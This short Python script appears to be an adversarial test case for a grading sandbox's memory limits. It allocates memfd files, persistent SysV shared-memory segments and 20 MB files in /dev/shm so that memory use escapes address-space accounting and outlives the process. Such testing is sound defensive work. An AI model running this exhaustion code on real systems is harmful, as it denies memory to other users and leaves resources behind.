"""Attack: memory that no address space counts: memfd, pipes full of bytes, shared memory, /dev/shm.
Wants: the machine's memory, and some that outlives the process.
Honest mark: 22
"""

# %% own
import ctypes, os

block = bytes(20 << 20)
for number in range(40):
    try:
        os.write(os.memfd_create("x"), block)
    except OSError:
        break
libc = ctypes.CDLL(None, use_errno=True)
for number in range(40):
    identity = libc.shmget(0, 20 << 20, 0o1600)
    if identity < 0:
        break
for number in range(40):
    try:
        with open(f"/dev/shm/convgrade-attack-{number}", "wb") as file:
            file.write(block)
    except OSError:
        break
